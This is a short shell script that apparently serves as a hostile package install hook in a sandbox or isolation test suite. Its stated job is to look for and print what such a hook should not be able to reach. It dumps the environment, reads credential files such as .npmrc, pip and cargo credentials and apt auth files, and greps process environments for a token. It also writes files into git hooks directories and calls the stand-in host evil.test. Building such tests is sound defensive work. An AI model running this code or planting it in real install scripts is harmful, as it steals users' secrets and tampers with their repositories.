#!/bin/sh
# SPDX-License-Identifier: MIT
#
# What the install scripts of the tests' packages do: look for what they should not have, and print it. @HOME@ is the
# caller's home, which need not be HOME.
home=@HOME@
[ -d "$home" ] || home=$HOME
env
for file in .secret .npmrc .config/pip/pip.conf .cargo/credentials.toml; do
	cat "$home/$file" "$HOME/$file" 2>/dev/null
done
cat /etc/apt/auth.conf.d/* 2>/dev/null
for file in /proc/[0-9]*/environ; do
	tr '\0' '\n' 2>/dev/null <"$file" | grep t0ken
done 2>/dev/null
for hooks in "$home"/t/*/.git/hooks; do
	[ ! -d "$hooks" ] || { echo planted >"$hooks/planted"; } 2>/dev/null
done
curl -sS -k --max-time 10 https://evil.test/ 2>/dev/null
echo looked
